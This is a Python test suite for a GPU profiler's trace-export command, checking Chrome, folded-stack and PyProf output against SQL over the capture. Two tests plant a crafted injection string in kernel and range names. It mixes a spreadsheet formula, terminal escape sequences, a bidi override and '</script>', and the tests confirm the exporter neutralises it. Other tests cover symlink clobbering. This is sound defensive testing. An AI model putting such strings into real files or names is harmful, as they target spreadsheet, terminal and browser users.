#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""export CLIENT RECORDING SOURCE: what gpuctr-client export makes of the bundled recording, and of captures that were made
worse than it: launches at one time, on many threads, out of order, without ranges, without values.

The trace is checked against all that HolisticTraceAnalysis needs to give each kernel its counters and operators
(check_trace), by nothing but this file and SQL."""

import collections
import csv
import json
import os
import pathlib
import re
import shutil
import sqlite3
import subprocess
import sys

sys.dont_write_bytecode = True
from checks import NO_SITES, OWN_LAUNCHES, SHAPE, change, check, check_nesting, in_turns, run_tests  # noqa: E402

CLIENT, RECORDING, SOURCE = (pathlib.Path(a).resolve() for a in sys.argv[1:4])
COLUMNS = ("dram__bytes_read.sum", "dram__bytes_write.sum", "gpu__time_duration.sum", "lts__t_sectors.sum",
           "lts__t_requests.sum")
CROWDED = b"no track was left for them: Perfetto leaves them out"
NO_RANGE = "(no NVTX range)"
PID = 596
BEGIN_NS = 1795396518950148788


def export(*arguments, status=0, says=b"", **more):
    r = subprocess.run([CLIENT, "export", *map(str, arguments)], capture_output=True, timeout=100, check=False, **more)
    check(r.returncode == status and says in r.stderr and bool(r.stderr) == bool(says),
          f"{arguments}: {r.returncode} {r.stderr!r}")
    return r.stdout


# --- the trace --------------------------------------------------------------------------------------


def operator(message):
    """The name in a range's message."""
    return re.split(r", (?:seq|sizes) = ", message)[0]


def records(path, process=1):
    """Of a capture: index, kernel, correlation, thread, device, stream, start, duration, ranges, kind, values."""
    db = sqlite3.connect(path)
    ranges = {row[0]: row[1:] for row in
              db.execute("SELECT id, parent, name, domain, number FROM site WHERE process = ?", (process,))}
    query = (f"SELECT idx, k.name, correlation, thread, device, stream, start_ns, duration_ns, site, l.kind, step,"
             f" {','.join(chr(34) + c + chr(34) for c in COLUMNS)} FROM record r JOIN launch l ON l.id = r.launch LEFT JOIN kernel k"
             " ON k.process = l.process AND k.id = l.kernel WHERE r.process = ? ORDER BY idx")
    rows = []
    for row in db.execute(query, (process,)):
        path_of, at = [], row[8]
        while at:
            at, name, domain, number = ranges[at]
            path_of.append((domain + ":" if domain else "") + (f"{name[:-1]}{row[10]}" if number == 1 else name))
        rows.append(row[:8] + (path_of[::-1], row[9], dict(zip(COLUMNS, row[11:]))))
    db.close()
    return rows


def spans(trace, category):
    found = [e for e in trace["traceEvents"] if e.get("cat") == category]
    for e in found:
        check(e["ph"] == "X" and {"name", "pid", "tid", "ts", "dur"} <= set(e), f"{category}: {e}")
    return found


def check_order(events, what):
    """Sorting by ts, however unstable, gives the order of launches."""
    ts = [e["ts"] for e in events]
    check(all(a < b for a, b in zip(ts, ts[1:])), f"{what}: not in the order of the launches")
    check(all(type(e["ts"]) is int and type(e["dur"]) is int and e["dur"] > 0 for e in events), f"{what}: whole us")


def check_counters(events, want, what):
    for e, (_, kernel, _, _, device, _, _, _, _, _, values) in zip(events, want):
        check(e["name"] == (kernel or "na") and e["pid"] == device, f"{what}: {e}")
        check(all(type(v) in (int, float) for v in e["args"].values()), f"{what}: arguments are not numbers: {e}")
        got = {k: v for k, v in e["args"].items() if not k.startswith("gpuctr::")}
        check(got == {k: v for k, v in values.items() if v is not None}, f"{what}: other values: {e}")


def check_launches(events, want, what):
    for e, (_, _, correlation, thread, *_, kind, _) in zip(events, want):
        check(e["name"] == "cudaLaunchKernel" and e["tid"] == thread and e["args"]["correlation"] == correlation and
              e["args"].get("gpuctr::kind") == (None, "cooperative", "graph", "graph_kernel")[kind], f"{what}: {e}")


def stacks(operators, launches, what):
    """The names of the spans around each launch, outermost first; spans of a thread nest strictly."""
    threads = collections.defaultdict(list)
    for e in operators + launches:
        threads[e["pid"], e["tid"]].append(e)
    found = {}
    for events in threads.values():
        events.sort(key=lambda e: e["ts"])
        around = []
        for e in events:
            while around and around[-1]["ts"] + around[-1]["dur"] <= e["ts"]:
                around.pop()
            end = e["ts"] + e["dur"]
            check(not around or (around[-1]["ts"] < e["ts"] and end < around[-1]["ts"] + around[-1]["dur"]),
                  f"{what}: spans overlap: {around[-1:]} {e}")
            if e["cat"] == "cuda_runtime":
                found[e["ts"]] = [o["name"] for o in around]
            else:
                around.append(e)
    return [found.get(e["ts"], []) for e in launches]


def check_kernels(trace, want, what):
    """On the tracks of streams: exact times, and the counters."""
    base = trace["baseTimeNanoseconds"]
    got = sorted((e["pid"], e["args"]["stream"], round(e["ts"] * 1000) + base, round(e["dur"] * 1000), e["args"]["correlation"],
                  sorted((k.removeprefix("gpuctr::"), v) for k, v in e["args"].items() if k.removeprefix("gpuctr::") in COLUMNS))
                 for e in spans(trace, "kernel"))
    expected = sorted((device, stream, start, duration, correlation, sorted((k, v) for k, v in values.items() if v is not None))
                      for _, _, correlation, _, device, stream, start, duration, _, _, values in want if duration >= 0)
    check(got == expected, f"{what}: kernels' times or counters")


def check_tracks(trace, what):
    """Each track has a name, and those of a stream say which."""
    names = {(e["pid"], e["tid"]): e["args"]["name"] for e in trace["traceEvents"] if e.get("name") == "thread_name"}
    check({(e["pid"], e["tid"]) for e in trace["traceEvents"] if e.get("ph") == "X"} == set(names), f"{what}: names of tracks: {names}")
    for e in spans(trace, "kernel"):
        name = names[e["pid"], e["tid"]]
        check(re.fullmatch(rf"stream {e['args']['stream']}( \(\d+\))?", name), f"{what}: {name}: {e}")
    for e in spans(trace, "cuda_profiler_range"):
        check(names[e["pid"], e["tid"]].startswith("counters of stream "), f"{what}: {names[e['pid'], e['tid']]}: {e}")


def check_trace(path, rank=0, arguments=(), process=1, crowded=False):
    text = export(path, "--to", "chrome", *arguments, says=CROWDED if crowded else b"")
    trace = json.loads(text)
    want = records(path, process)
    check(trace["distributedInfo"]["rank"] == rank, f"{path}: rank")
    check(re.search(rb'"rank": (\d+)', text)[1] == b"%d" % rank, f"{path}: rank, as HTA looks for it")
    ranges, launches, operators = (spans(trace, c) for c in ("cuda_profiler_range", "cuda_runtime", "cpu_op"))
    check(len(ranges) == len(launches) == len(want), f"{path}: {len(ranges)} ranges, {len(launches)} launches")
    for events, what in ((ranges, "ranges"), (launches, "launches")):
        check_order(events, f"{path}: {what}")
    check_counters(ranges, want, path)
    check_launches(launches, want, path)
    check(all(type(e["ts"]) is int and type(e["dur"]) is int for e in operators), f"{path}: whole us of operators")
    for got, row in zip(stacks(operators, launches, path), want):
        check(got == (row[8] or [NO_RANGE]), f"{path}: launch {row[0]} is in {got}, not {row[8]}")
    check_kernels(trace, want, path)
    check_nesting(trace, path, ("kernel",) if crowded else ())
    check_tracks(trace, path)
    end = trace["gpuctr_end"]
    check(end["records"] == len(want), f"{path}: end")
    return trace


def the_recording():
    trace = check_trace("run.gpuctr")
    end = trace["gpuctr_end"]
    check(end["complete"] and end["seen"] == 3240 and end["measured"] == 716, "counts at the end")
    check(end["delayed"] == 0, "launches are shown later than they were")
    check(check_trace("run.gpuctr", 5, ("--rank", 5)) is not None, "rank")
    names = {(e["name"], e["pid"], e["tid"]): e["args"]["name"] for e in trace["traceEvents"]
             if e["ph"] == "M" and "name" in e["args"]}
    check(names[("process_name", 0, 0)] == "GPU 0: NVIDIA H200" and names[("thread_name", 0, 7)] == "stream 7", "names")
    shapes = [e["args"]["Input Dims"] for e in trace["traceEvents"] if "Input Dims" in e.get("args", {})]
    check(len(shapes) > 1000 and [[64, 3, 224, 224], [64, 3, 7, 7], [], [], [], [], []] in shapes, f"{len(shapes)} shapes")


def worse_captures():
    check_trace(change("tie.gpuctr", f"UPDATE record SET start_ns = {BEGIN_NS}"), crowded=True)
    check_trace(change("back.gpuctr", f"UPDATE record SET start_ns = {BEGIN_NS} - idx * 1000"), crowded=True)
    check_trace(change("dense.gpuctr", f"UPDATE record SET start_ns = {BEGIN_NS} + idx * 700"))
    check_trace(change("threads.gpuctr", *OWN_LAUNCHES, "UPDATE launch SET thread = (id - 1000000) % 5, stream = (id - 1000000) % 3 + 7",
                       "UPDATE record SET opened = 0"))
    check_trace(change("jumps.gpuctr", *OWN_LAUNCHES, "UPDATE launch SET site = ((id - 1000000) * 389) % 560 + 1, thread = id % 2",
                       "UPDATE record SET opened = 0, step = 2, numbers = x'04'"))
    check_trace(change("bare.gpuctr", *OWN_LAUNCHES, "UPDATE launch SET site = 0 WHERE (id - 1000000) % 7 < 3",
                       "UPDATE record SET opened = 0 WHERE idx % 7 < 3"))
    check_trace(change("none.gpuctr", *NO_SITES))
    check_trace(change("null.gpuctr", f'UPDATE record SET "{COLUMNS[0]}" = NULL WHERE idx % 2',
                       "UPDATE record SET duration_ns = -1, clock = 0 WHERE idx % 3 = 0"))
    check_trace(change("graph.gpuctr", *OWN_LAUNCHES, "UPDATE launch SET kind = (id - 1000000) % 4"))
    check_trace(change("empty.gpuctr", "DELETE FROM record"))


def kernels_that_overlap():
    """A kernel that begins before the one before it in its stream has ended (programmatic dependent launch), and several
    streams. worse_captures() has more at one time than there are tracks for."""
    check_trace(change("pdl.gpuctr", f"UPDATE record SET start_ns = {BEGIN_NS} + idx * 95000, duration_ns = 100000"))
    trace = check_trace(change("wide.gpuctr", f"UPDATE record SET start_ns = {BEGIN_NS} + idx * 2000, duration_ns = 100000",
                               *OWN_LAUNCHES, "UPDATE launch SET stream = (id - 1000000) % 3"))
    check(len({(e["pid"], e["tid"]) for e in spans(trace, "kernel")}) == 51, "tracks of 3 streams, of 17 kernels each")
    check_trace(change("behind.gpuctr", f"UPDATE record SET start_ns = {BEGIN_NS} + (idx - idx % 8 + 7 - idx % 8) * 50000, duration_ns = 50000"))


def times_before_the_file():
    """A trace begins with the first kernel, if the file was made later; what has no time is where its order wants it."""
    trace = check_trace(change("later.gpuctr", f"UPDATE meta SET value = {BEGIN_NS} + 86400000000000 WHERE key = 'created_ns'"))
    check(trace["baseTimeNanoseconds"] // 10**9 == min(r[6] for r in records("run.gpuctr")) // 10**9, "another beginning")
    check_nesting(json.loads(export(change("never.gpuctr", "UPDATE record SET start_ns = 0, duration_ns = -1, clock = 0 WHERE idx < 9"),
                                    "--to", "chrome")), "no time")


def samples_are_counters():
    """Those that a capture keeps, by device; where they say something else than before. Their sum is that of the samples."""
    path = SOURCE / "client/replay/transformer-h200.gpuctr"
    trace = json.loads(export(path, "--to", "chrome", says=b"values are SAMPLED"))
    check_nesting(trace, "transformer")
    check_tracks(trace, "transformer")
    counters = [e for e in trace["traceEvents"] if e["ph"] == "C"]
    check({(e["pid"], e["name"], *e["args"]) for e in counters} ==
          {(0, f"dram__bytes_{w}.sum", "byte/s") for w in ("read", "write")}, "other counters")
    check(all(e["ts"] >= 0 for e in counters), "a sample before the beginning")
    kernels = spans(trace, "kernel")
    check(all("gpuctr::dram__bytes_read.sum error" in e["args"] for e in kernels if "gpuctr::dram__bytes_read.sum" in e["args"]),
          "values without their errors")
    bytes_read, read = 0, sorted((e["ts"], e["args"]["byte/s"]) for e in counters if "read" in e["name"])
    for (at, rate), (end, _) in zip(read, read[1:]):
        bytes_read += rate * min(end - at, 20) / 1e6
    told = sum(e["args"].get("gpuctr::dram__bytes_read.sum", 0) for e in kernels)
    check(0.9 < bytes_read / told < 1.2, f"{bytes_read} bytes in samples, {told} in kernels")


def wild_values():
    """No number breaks the trace or the order of its launches."""
    path = change("wild.gpuctr", "UPDATE record SET start_ns = 9223372036854775807 WHERE idx = 3",
                  "UPDATE record SET start_ns = -9223372036854775807 WHERE idx = 9",
                  "UPDATE record SET duration_ns = 9223372036854775807 WHERE idx = 5",
                  f'UPDATE record SET "{COLUMNS[0]}" = 9e999 WHERE idx = 11',
                  "UPDATE meta SET value = -9223372036854775807 WHERE key = 'created_ns'")
    trace = json.loads(export(path, "--to", "chrome"))
    for category in ("cuda_profiler_range", "cuda_runtime"):
        check(len(spans(trace, category)) == 716, f"wild: {category}")
        check_order(spans(trace, category), f"wild: {category}")
    check(COLUMNS[0] not in spans(trace, "cuda_profiler_range")[11]["args"], "a value that is no number")
    lines = [len(export(p, "--to", "folded").splitlines()) for p in (path, "run.gpuctr")]
    check(lines[0] == lines[1] > 50, f"wild: folded: {lines}")
    for line in export(path, "--to", "jsonl").splitlines():
        json.loads(line)


def hostile_names():
    evil = "=X(\"y\")\x1b]0;t\x07\u202e\nnext \x9b </script>; 1"
    path = change("evil.gpuctr", ("UPDATE kernel SET name = ? WHERE id = 1", (evil,)),
                  ("UPDATE site SET name = ? WHERE id = 5", (evil,)), ("UPDATE process SET program = ?", (evil,)))
    trace = check_trace(path)
    check(any(e["name"] == evil for e in spans(trace, "kernel")), "the name is another one")
    for line in export(path, "--to", "folded").decode().splitlines():
        check(re.fullmatch(r"[^\x00-\x1f\x7f-\x9f\u202e]+ [0-9]+", line), f"folded: {line!r}")


def several_processes():
    """Each process alone is a trace for HTA; all together are one to look at."""
    path = change("two.gpuctr", *(f"INSERT INTO {table} SELECT 2, {columns} FROM {table} WHERE process = 1" for
                                  table, columns in (("device", "idx, uuid, name, chip, clock_sm_mhz, clock_mem_mhz"),
                                                     ("kernel", "id, name, mangled, static_shared_bytes, registers"))),
                  "INSERT INTO process SELECT 2, 4711, 'other', cupti, driver, recorded_from, 1, 1, 0, 0, 0, 0, 0, 0,"
                  " 0, 0 FROM process", *OWN_LAUNCHES,
                  "UPDATE launch SET process = 2, site = 0 WHERE id >= 1000400",
                  "UPDATE record SET id = (2 << 40) + idx - 400, process = 2, idx = idx - 400, opened = 0 WHERE idx >= 400")
    check_trace(path, 0, ("--process", 1))
    check_trace(path, 1, ("--process", 2, "--rank", 1), 2)
    trace = json.loads(export(path, "--to", "chrome", says=b"--process N"))
    check(len(spans(trace, "cuda_profiler_range")) == 716, "records of both")
    check({e["pid"] for e in spans(trace, "cpu_op")} == {PID, 4711}, "a track of each")
    check(len({e["pid"] for e in spans(trace, "kernel")}) == 2, "devices are counted by each process")
    lines = export(path, "--to", "folded").decode().splitlines()
    check(any(s.startswith("other (4711);") for s in lines), "folded: the process is a frame")


def perfetto_opens_the_chrome_trace():
    """Perfetto's own format is refused by its name and by a file's, with what to export instead."""
    for arguments in (("--to", "perfetto"), ("-o", "a.pftrace"), ("-o", "a.perfetto-trace")):
        r = subprocess.run([CLIENT, "export", "run.gpuctr", *arguments], capture_output=True, timeout=100, check=False)
        check(r.returncode == 2 and not r.stdout and b"--to chrome -o trace.json" in r.stderr, f"{arguments}: {r.stderr!r}")
    check(not list(pathlib.Path(".").glob("a.p*")), "a file is left")


# --- folded stacks ----------------------------------------------------------------------------------


def call_site(row):
    """Of a record: as folded has it, where all steps are one."""
    return ";".join([re.sub(r"^((?:iteration|iter|step|batch|epoch|ProfilerStep|train_step)[ #:_=-]*)\d+$", r"\1N", name) for name in row[8]] +
                    [row[1]]).replace("\n", "?")


def steps_are_one_stack():
    """However many there are, a line is of a call site."""
    lines = export("run.gpuctr", "--to", "folded").decode().splitlines()
    check("iteration N" in {s.split(";")[0] for s in lines}, "folded: steps have no name")
    check(len(lines) == len({call_site(row) for row in records("run.gpuctr")}), "folded: call sites")


def folded_sums():
    for weight, column in (("time", "duration_ns"), (COLUMNS[0], COLUMNS[0]), ("write", COLUMNS[1])):
        want = collections.Counter()
        column = -1 if column == "duration_ns" else column
        for row in records("run.gpuctr"):
            want[call_site(row)] += row[7] if column == -1 else row[10][column]
        got = {}
        for line in export("run.gpuctr", "--to", "folded", "--columns", weight).decode().splitlines():
            stack, value = line.rsplit(" ", 1)
            check(stack not in got, f"folded: twice: {stack}")
            got[stack] = int(value)
        check(got == dict(want), f"folded by {weight} is another sum than SQL's")
    part = change("part.gpuctr", f'UPDATE record SET "{COLUMNS[0]}" = 0.75')
    for line in export(part, "--to", "folded", "--columns", COLUMNS[0]).decode().splitlines():
        check(line.rsplit(" ", 1)[1].isdigit(), f"folded: flamegraph.pl wants whole numbers: {line}")
    export("run.gpuctr", "--to", "folded", "--columns", "dram", status=2, says=b"more than one counter")
    export("run.gpuctr", "--to", "folded", "--columns", "l2", status=2, says=b"no counter")
    export(change("nulls.gpuctr", f'UPDATE record SET "{COLUMNS[0]}" = NULL WHERE idx < 9'), "--to", "folded",
           "--columns", COLUMNS[0], says=b"9 kernels are not in it")
    lines = export(change("alike.gpuctr", "UPDATE site SET kind = 0, number = 0, name = 'a' || CASE id % 3 WHEN 0 THEN ';' WHEN 1 THEN ',' ELSE char(7)"
                          " END WHERE depth = 0"), "--to", "folded").decode().splitlines()
    check({s.split(";")[0] for s in lines} == {"a,", "a?"}, "folded: names that are written alike are one")
    check(len(lines) == len({s.rsplit(" ", 1)[0] for s in lines}), "folded: a line twice")


def sums_of_turns():
    """Of metrics in turns each line is of all its launches, by those at its place that had the metric, or by all of their kernel and shape."""
    in_turns("turns.gpuctr")
    for i in (0, 1):
        db = sqlite3.connect("turns.gpuctr")
        shapes = db.execute(f"SELECT {SHAPE} FROM record r JOIN launch l ON l.id = r.launch ORDER BY idx").fetchall()
        values = [v for (v,) in db.execute(f'SELECT "{COLUMNS[i]}" FROM record ORDER BY idx')]
        db.close()
        by_place, by_shape = collections.defaultdict(list), collections.defaultdict(list)
        for row, shape, value in zip(records("run.gpuctr"), shapes, values):
            by_place[call_site(row), shape].append(value)
            by_shape[shape].append(value)
        want, unknown = collections.Counter(), 0
        for (place, shape), had in by_place.items():
            known = [v for v in had if v is not None] or [v for v in by_shape[shape] if v is not None]
            want[place] += sum(known) / len(known) * len(had) if known else 0
            unknown += 0 if known else len(had)
        says = f"{unknown} kernels are not in it".encode() if unknown else b"metrics took turns: sums are of all launches"
        for line in export("turns.gpuctr", "--to", "folded", "--columns", COLUMNS[i], says=says).decode().splitlines():
            place, value = line.rsplit(" ", 1)
            check(abs(int(value) - want[place]) <= 0.501, f"folded, in turns: {place}: {value}, not {want[place]}")
    lines = prof("turns.gpuctr", "--columns", "idx,bytes")
    check(len(lines) == 716 and {line["bytes"] for line in lines} == {"na"}, "pyprof: no launch has both directions")


# --- the lines of PyProf ------------------------------------------------------------------------------

TWENTY = "idx seq altseq tid layer trace dir sub mod op kernel params sil tc device stream grid block flops bytes".split()
HEADS = ("Idx SeqId AltSeqId TId Layer Trace Direction Sub Module Op Kernel Params Sil(ns) TC Device Stream Grid Block"
         " FLOPs Bytes").split()
HMMA = "sm__ops_path_tensor_src_bf16_dst_fp32.sum"


def prof(path, *arguments, says=b""):
    """The lines by column, of the format that has no spaces in its fields."""
    lines = [s.split(" ") for s in export(path, "--to", "pyprof", *arguments, says=says).decode().splitlines()]
    names = [TWENTY[HEADS.index(h)] for h in lines[0]]
    check(all(len(s) == len(names) and all(s) for s in lines), f"{path}: pyprof: fields")
    return [dict(zip(names, s)) for s in lines[1:]]


def numbers(path_of_messages):
    return [int(n) for m in path_of_messages for n in re.findall(r", seq = (\d+)", m)]


def messages(path):
    """Of the ranges around each launch, innermost first."""
    lines = map(json.loads, export(path, "--to", "jsonl").splitlines())
    return [[r["message"] for r in line["nvtx"]][::-1] for line in lines if line["type"] == "kernel"]


def check_measured(lines, want, what):
    """What a record says itself."""
    db = sqlite3.connect("run.gpuctr")
    shapes = db.execute("SELECT grid_x, grid_y, grid_z, block_x, block_y, block_z FROM record r JOIN launch l ON l.id = r.launch ORDER BY idx").fetchall()
    db.close()
    for line, row, shape in zip(lines, want, shapes):
        index, _, _, thread, device, stream, _, duration, _, _, values = row
        got = [int(line[c]) for c in ("idx", "tid", "device", "stream", "sil")]
        check(got == [index, thread, device, stream, duration], f"{what}: {line}")
        check(float(line["bytes"]) == values[COLUMNS[0]] + values[COLUMNS[1]], f"{what}: bytes: {line}")
        check(line["grid"] + "," + line["block"] == ",".join(map(str, shape)), f"{what}: shape: {line}")


def check_operators(lines, around):
    """A line has the outermost operator that shows its number, in both directions; without a number, the innermost."""
    forward = collections.defaultdict(set)
    for line, path in zip(lines, around):
        operators = [m for m in path if "::" in operator(m)]
        if line["dir"] == "fprop":
            check(line["seq"] == str((numbers(operators) or ["-"])[0]), f"pyprof: seq: {line} {operators}")
            called = [m for m in operators if str(numbers([m])) == f"[{line['seq']}]"][-1:] or operators[:1]
            check(line["mod"] + "::" + line["op"] == operator(called[0]), f"pyprof: operator: {line}")
            sizes = re.sub(r"(,\[\])+$", "", re.search(r", sizes = \[(.*?)\]$", called[0])[1].replace(" ", ""))
            check(line["params"] == sizes or line["params"].endswith(".."), f"pyprof: params: {line} {sizes}")
            forward[line["seq"]].add((line["op"], line["params"]))
        others = {n for n in numbers(path) if str(n) != line["seq"]}
        check({int(n) for n in line["altseq"].split(",") if n != "-"} == others, f"pyprof: altseq: {line} {path}")
    backward = [s for s in lines if s["dir"] == "bprop" and s["seq"] in forward and s["seq"] != "-"]
    check(len(backward) > 100, "pyprof: nothing is joined to the forward pass")
    for line in backward:
        check((line["op"], line["params"]) in forward[line["seq"]], f"pyprof: {line}: forward it is {forward[line['seq']]}")
    named = [{s["op"] for s in lines if s["dir"] == d} for d in ("fprop", "bprop")]
    for op in "conv2d", "relu_", "batch_norm":
        check(op in named[0] and op in named[1], f"pyprof: no {op} in both directions: {named}")


def lines_of_pyprof():
    lines, want = prof("run.gpuctr", "--columns", "all"), records("run.gpuctr")
    check(len(lines) == len(want) == 716 and list(lines[0]) == TWENTY, "pyprof: lines")
    check_measured(lines, want, "pyprof")
    check_operators(lines, messages("run.gpuctr"))
    check({s["trace"] for s in lines} | {s["tc"] for s in lines} | {s["flops"] for s in lines} == {"na"},
          "pyprof: what was not measured")
    check(list(prof("run.gpuctr")[0]) == "idx dir sub mod op kernel params sil".split(), "pyprof: usual columns")
    subs = collections.defaultdict(list)
    for s in lines:
        if s["seq"] != "-":
            subs[s["seq"], s["dir"]].append(int(s["sub"]))
    check(all(n == list(range(len(n))) for n in subs.values()), "pyprof: sub counts from 0")


def pyprof_of_tensor_cores():
    path = change("hmma.gpuctr", f'ALTER TABLE record RENAME COLUMN "{COLUMNS[2]}" TO "{HMMA}"',
                  f"UPDATE column_def SET name = '{HMMA}' WHERE idx = 2",
                  f'UPDATE record SET "{HMMA}" = CASE idx % 3 WHEN 0 THEN 0 WHEN 1 THEN 1024.0 END')
    lines = prof(path, "--columns", "idx,tc,flops")
    for line in lines:
        want = (("0", "0"), ("1", "1024"), ("na", "na"))[int(line["idx"]) % 3]
        check((line["tc"], line["flops"]) == want, f"pyprof: {line}")
    columns = ", ".join(f'"{c}" REAL' for c in (*COLUMNS[:2], HMMA, *COLUMNS[3:]))
    shutil.copy(path, "sampled.gpuctr")
    db = sqlite3.connect("sampled.gpuctr")
    db.execute("INSERT INTO meta VALUES('sampled', 1)")
    db.execute(f"CREATE TABLE sampled(record INTEGER PRIMARY KEY, alike INTEGER NOT NULL, {columns})")
    db.execute(f'INSERT INTO sampled(record, alike, "{HMMA}") SELECT id, 0, CASE idx % 6 WHEN 0 THEN 0 WHEN 1 THEN 341 WHEN 3 THEN 9 WHEN 4 THEN 342 END FROM record')
    db.commit()
    db.close()
    for line in prof("sampled.gpuctr", "--columns", "idx,tc", says=b"values are SAMPLED"):
        want = ("0", "1", "na", "na", "na", "na")[int(line["idx"]) % 6]
        check(line["tc"] == want, f"pyprof of samples: {line}")
    one = change("one.gpuctr", f'ALTER TABLE record RENAME COLUMN "{COLUMNS[1]}" TO "other__bytes.sum"',
                 "UPDATE column_def SET name = 'other__bytes.sum' WHERE idx = 1")
    check({s["bytes"] for s in prof(one, "--columns", "bytes")} == {"na"}, "pyprof: bytes of one direction are not all")


def layouts_of_pyprof():
    columns = "kernel,params,idx,layer,sil"
    plain = prof("run.gpuctr", "--columns", columns)
    quoted = list(csv.DictReader(export("run.gpuctr", "--to", "pyprof", "--csv", "--columns", columns).decode().splitlines()))
    check([[s[HEADS[TWENTY.index(c)]] for c in columns.split(",")] for s in quoted] ==
          [[s[c] for c in columns.split(",")] for s in plain], "pyprof: CSV says something else")
    for width in (30, 31, 100, 500):
        lines = export("run.gpuctr", "--to", "pyprof", "--columns", columns, "--width", width).decode().splitlines()
        share = (width - 7 - 10 - 10) // 2
        check({len(s) for s in lines} == {2 * share + 7 + 10 + 10 + 5}, f"pyprof: width {width}")
        check(lines[1].split()[0] == plain[0]["kernel"][:share], f"pyprof: kernel at {width}")
    export("run.gpuctr", "--to", "pyprof", "--width", 56, status=2, says=b"these columns take 57 at least")
    export("run.gpuctr", "--to", "pyprof", "--width", 150, "--csv", status=2, says=b"two forms")
    export("run.gpuctr", "--to", "pyprof", "--columns", "idx,nothing", status=2, says=b"idx, seq, altseq")
    export("run.gpuctr", "--to", "csv", "--columns", "idx", status=2, says=b"belongs to --to folded and pyprof")
    evil = "=X(\"y\")\x1b]0;t\x07\u202e\nnext \x9b </script>; 1"
    path = change("evil.gpuctr", ("UPDATE kernel SET name = ?", (evil,)), ("UPDATE site SET name = ?", (evil,)))
    check(len(prof(path, "--columns", "all")) == 716, "pyprof: lines of hostile names")
    check(b"\x1b" not in export(path, "--to", "pyprof", "--columns", "all"), "pyprof: an escape")
    check(len(prof(change("none.gpuctr", "DELETE FROM record"))) == 0, "pyprof: no kernels")


# --- files ------------------------------------------------------------------------------------------


def files():
    export("run.gpuctr", "-o", "a.json")
    check(pathlib.Path("a.json").read_bytes() == export("run.gpuctr", "--to", "chrome"), "a file")
    for more in ([], ["--to", "chrome"]):
        export("run.gpuctr", "-o", "a.json.gz", *more, status=2, says=b"| gzip >a.json.gz")
    export("run.gpuctr", "-o", "a.json", status=2, says=b"-f replaces it")
    for name in ("a.js", "json", "a."):
        export("run.gpuctr", "-o", name, status=2, says=b"to what?")
    export("run.gpuctr", "-f", "-o", "a.json")
    export("-", "--to", "csv", stdin=open("run.gpuctr", "rb"))
    pathlib.Path("cut.gpuctr").write_bytes(pathlib.Path("run.gpuctr").read_bytes()[:1000000])
    export("cut.gpuctr", "-o", "cut.json", status=1, says=b"error[store-")
    export("cut.gpuctr", "-o", "cut.folded", status=1, says=b"error[store-")
    check(not pathlib.Path("cut.folded").exists(), "stacks of a file that is cut")
    change("late.gpuctr", "UPDATE record SET duration_ns = 'x' WHERE idx = 700")
    export("late.gpuctr", "-f", "-o", "a.json", status=1, says=b"error[store-corrupt]")
    check(json.loads(pathlib.Path("a.json").read_text())["gpuctr_end"]["records"] == 716, "the file before is gone")
    left = [p.name for p in pathlib.Path(".").iterdir() if ".json." in p.name or p.name == "cut.json"]
    check(not left, f"left behind: {left}")
    for arguments, message in ((["run.gpuctr"], b"to what?"), (["run.gpuctr", "--to", "xml"], b"not 'xml'"),
                               (["--to", "csv"], b"name one"), (["run.gpuctr", "--to", "csv", "--columns", "time"],
                                                               b"belongs to"),
                               (["run.gpuctr", "--to", "chrome", "--process", "9"], b"no process 9")):
        export(*arguments, status=2, says=message)
    change("growing.gpuctr", "UPDATE meta SET value = 0 WHERE key = 'complete'")
    export("growing.gpuctr", "--to", "chrome", says=b"warning[not-complete]")


def what_is_read_is_not_written():
    """By its own name, by another, by a link, as standard input: with -f the output would take the place of the input."""
    whole = pathlib.Path("run.gpuctr").read_bytes()
    shutil.copy("run.gpuctr", "mine.gpuctr")
    os.link("mine.gpuctr", "hard.gpuctr")
    os.symlink("mine.gpuctr", "soft.gpuctr")
    pathlib.Path("trace.json").write_bytes(export("run.gpuctr", "--to", "chrome"))
    trace = pathlib.Path("trace.json").read_bytes()
    says = b"this is the file that is read, and writing would replace it; give another name"
    for name in "mine.gpuctr", "./mine.gpuctr", "hard.gpuctr", "soft.gpuctr":
        export("mine.gpuctr", "--to", "csv", "-f", "-o", name, status=2, says=says)
        for command in (["report", "run.gpuctr", "mine.gpuctr", "--html", name, "-f"],
                        ["merge", "trace.json", "mine.gpuctr", "-o", name, "-f"]):
            r = subprocess.run([CLIENT, *command], capture_output=True, timeout=100, check=False)
            check(r.returncode == 2 and says in r.stderr, f"{command}: {r}")
    with open("mine.gpuctr", "rb") as stdin:
        export("-", "--to", "csv", "-f", "-o", "soft.gpuctr", stdin=stdin, status=2, says=says)
    r = subprocess.run([CLIENT, "merge", "trace.json", "run.gpuctr", "-o", "trace.json", "-f"], capture_output=True,
                       timeout=100, check=False)
    check(r.returncode == 2 and says in r.stderr, f"merge: {r}")
    check(pathlib.Path("mine.gpuctr").read_bytes() == whole and pathlib.Path("trace.json").read_bytes() == trace,
          "what was read is gone")
    shutil.copy("run.gpuctr", "other.gpuctr")
    export("mine.gpuctr", "--to", "csv", "-f", "-o", "other.gpuctr")


def a_link_chooses_nothing():
    """Who put a link where we write has not chosen what -f replaces; a link to a pipe or a device is followed."""
    pathlib.Path("victim").write_text("precious")
    os.symlink("victim", "to-file")
    os.symlink("nowhere", "to-nowhere")
    os.symlink("/dev/stdout", "to-stdout")
    for name in "to-file", "to-nowhere":
        for force in [], ["-f"]:
            export("run.gpuctr", "--to", "csv", *force, "-o", name, status=2, says=b"this is a link")
    check(pathlib.Path("victim").read_text() == "precious" and not os.path.exists("nowhere"), "a link was followed")
    check(os.path.islink("to-file") and os.path.islink("to-nowhere"), "a link was replaced")
    check(len(export("run.gpuctr", "--to", "csv", "-o", "to-stdout")) > 1000, "a link to a pipe was not followed")
    check(not [n for n in os.listdir(".") if n.startswith("to-") and "." in n], "a temporary file is left")


def a_file_that_comes_meanwhile_stays():
    """It was not there when we began, and -f was not given."""
    for force in [], ["-f"]:
        late = pathlib.Path("late.csv")
        late.unlink(missing_ok=True)
        with subprocess.Popen([CLIENT, "export", "-", "--to", "csv", *force, "-o", late], stdin=subprocess.PIPE,
                              stderr=subprocess.PIPE) as p:
            while not [n for n in os.listdir(".") if n.startswith("late.csv.")]:
                check(p.poll() is None, "no temporary file")
            late.write_text("precious")
            _, err = p.communicate(pathlib.Path("run.gpuctr").read_bytes(), timeout=100)
        if force:
            check(p.returncode == 0 and late.stat().st_size > 1000, f"with -f: {p.returncode} {err!r}")
        else:
            check(p.returncode == 1 and late.read_text() == "precious", f"replaced: {p.returncode} {err!r}")
